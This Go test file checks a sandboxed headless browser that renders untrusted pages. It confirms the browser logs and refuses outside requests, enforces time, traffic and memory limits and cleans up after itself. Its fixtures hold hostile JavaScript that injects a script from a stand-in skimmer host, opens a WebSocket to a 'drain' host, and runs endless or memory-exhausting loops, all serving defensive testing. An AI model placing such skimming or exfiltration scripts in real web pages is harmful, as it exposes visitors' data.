package browser

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"image/png"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"slices"
	"strings"
	"testing"
	"time"
)

func start(t *testing.T, opt Options) *Browser {
	t.Helper()
	b, err := Start(t.Context(), opt)
	if err != nil {
		t.Fatalf("%v", err)
	}
	t.Cleanup(func() {
		if err := b.Close(); err != nil {
			t.Error(err)
		}
	})
	return b
}

func serve(t *testing.T, pages map[string]string) (*httptest.Server, string) {
	t.Helper()
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		text, ok := pages[r.URL.Path]
		if !ok {
			http.NotFound(w, r)
			return
		}
		if strings.HasSuffix(r.URL.Path, ".js") {
			w.Header().Set("Content-Type", "text/javascript")
		}
		io.WriteString(w, strings.ReplaceAll(text, "USERAGENT", r.UserAgent()+" from "+r.Referer()))
	}))
	t.Cleanup(s.Close)
	u, err := url.Parse(s.URL)
	if err != nil {
		t.Fatal(err)
	}
	return s, u.Host
}

func TestAPageIsSeenAsItIsAfterItsScriptsRan(t *testing.T) {
	pages := map[string]string{
		"/": `<title>x</title><h1>Welcome USERAGENT</h1><script src="/late.js"></script><script>alert("hello")</script>
<img src="http://evil.example/pixel.gif">`,
		"/late.js": `setTimeout(function () { // long after the load
  var s = document.createElement("script"); s.src = "https://skimmer.example/k.js"; document.body.appendChild(s);
  new WebSocket("wss://drain.example/in"); console.error("was here");
}, 4000); navigator.serviceWorker.register("/sw.js"); throw new Error("broken");`,
		"/sw.js": `self.addEventListener("fetch", function () {})`,
	}
	s, host := serve(t, pages)
	b := start(t, Options{Allowed: func(address string) bool { return address == host }})
	if !strings.Contains(b.About(), "sandbox") || os.Geteuid() == 0 && !strings.Contains(b.About(), "nobody") {
		t.Errorf("the browser is %q, want its sandbox told, and no rights of root", b.About())
	}
	t.Log(b.About())
	r, err := b.Render(t.Context(), s.URL+"/", Visitor{UserAgent: "Tester/1", Referrer: "https://search.example/"})
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"https://skimmer.example/k.js", "Welcome Tester/1 from https://search.example/"} {
		if !strings.Contains(r.Document, want) {
			t.Errorf("the document lacks %q:\n%s", want, r.Document)
		}
	}
	for _, want := range []Request{
		{URL: s.URL + "/", Type: "Document"}, {URL: s.URL + "/late.js", Type: "Script"},
		{URL: "http://evil.example/pixel.gif", Type: "Image", Refused: true},
		{URL: "https://skimmer.example/k.js", Type: "Script", By: s.URL + "/late.js", Refused: true},
		{URL: "wss://drain.example/in", Type: "WebSocket", By: s.URL + "/late.js", Refused: true},
	} {
		if !slices.Contains(r.Requests, want) {
			t.Errorf("request %+v is not told; there are %+v", want, r.Requests)
		}
	}
	if !slices.Equal(r.ServiceWorkers, []string{s.URL + "/sw.js"}) {
		t.Errorf("service workers %q", r.ServiceWorkers)
	}
	if !slices.Equal(r.Dialogs, []string{"hello"}) {
		t.Errorf("dialogs %q", r.Dialogs)
	}
	for _, want := range []string{"was here", "broken"} {
		if !strings.Contains(fmt.Sprint(r.Console), want) {
			t.Errorf("the console lacks %q: %q", want, r.Console)
		}
	}
	picture, err := png.Decode(bytes.NewReader(r.Picture))
	if err != nil || picture.Bounds().Dx() != width || picture.Bounds().Dy() != height {
		t.Errorf("the picture is %v (%v)", picture, err)
	}
	again, err := b.Render(t.Context(), s.URL+"/", Visitor{})
	if err != nil || len(again.ServiceWorkers) != 1 || !slices.ContainsFunc(again.Requests, func(r Request) bool { return r.URL == s.URL+"/late.js" }) {
		t.Errorf("a second visit is not as a first: %+v, %v", again.Requests, err)
	}
}

func TestHostilePagesAreBounded(t *testing.T) {
	pages := map[string]string{
		"/":       `<h1>ok</h1>`,
		"/spin":   `<h1>x</h1><script>for (;;) {}</script>`,
		"/dialog": `<script>for (;;) alert(1)</script>`,
	}
	s, _ := serve(t, pages)
	endless := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		for r.Context().Err() == nil {
			if _, err := io.WriteString(w, strings.Repeat("<p>more ", 10000)); err != nil {
				return
			}
		}
	}))
	defer endless.Close()
	b := start(t, Options{Timeout: time.Second, Traffic: 2 << 20})
	for _, page := range []string{"/spin", "/dialog"} {
		if _, err := b.Render(t.Context(), s.URL+page, Visitor{}); err == nil || !strings.Contains(err.Error(), "1s") {
			t.Errorf("%s ended with %v, want the time told", page, err)
		}
	}
	b.opt.Timeout = defaultTimeout
	if _, err := b.Render(t.Context(), endless.URL, Visitor{}); !errors.Is(err, errTraffic) {
		t.Errorf("an endless page ended with %v", err)
	}
	if r, err := b.Render(t.Context(), s.URL+"/", Visitor{}); err != nil || !strings.Contains(r.Document, "ok") {
		t.Errorf("after hostile pages a good one gives %v", err)
	}
}

func TestABrowserThatTakesTooMuchMemoryIsEnded(t *testing.T) {
	s, _ := serve(t, map[string]string{"/": `<script>let all = []; for (let i = 0; i < 100; i++) { all.push(new Uint8Array(1 << 24).fill(1)) }; for (;;) {}</script>`})
	b := start(t, Options{Memory: 600 << 20, Timeout: 10 * time.Second})
	if _, err := b.Render(t.Context(), s.URL, Visitor{}); err == nil || !strings.Contains(err.Error(), "of memory") {
		t.Errorf("it ended with %v, want the memory told", err)
	}
	if _, err := b.Render(t.Context(), s.URL, Visitor{}); err == nil || !strings.Contains(err.Error(), "of memory") {
		t.Errorf("a second page ended with %v", err)
	}
}

func TestABrowserWithoutASandboxSaysSo(t *testing.T) {
	program, err := find()
	if err != nil {
		t.Fatal(err)
	}
	b, err := startOne(t.Context(), program, Options{Memory: defaultMemory, Traffic: defaultTraffic, Timeout: defaultTimeout}, false)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.About(), "without a sandbox") {
		t.Errorf("it says that it is %q", b.About())
	}
	if err := b.Close(); err != nil {
		t.Error(err)
	}
}

func TestNothingIsLeftOfABrowser(t *testing.T) {
	ctx, cancel := context.WithCancel(t.Context())
	b, err := Start(ctx, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if len(session(b.leader)) < 2 {
		t.Fatalf("its processes are %v: nothing would be shown", session(b.leader))
	}
	cancel()
	if err := b.Close(); err != nil {
		t.Fatal(err)
	}
	if left := session(b.leader); len(left) != 0 {
		t.Errorf("processes %v are left", left)
	}
	if _, err := os.Stat(b.profile); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("its profile is left: %v", err)
	}
	if _, err := b.Render(t.Context(), "http://127.0.0.1/", Visitor{}); err == nil {
		t.Error("an ended browser renders")
	}
}
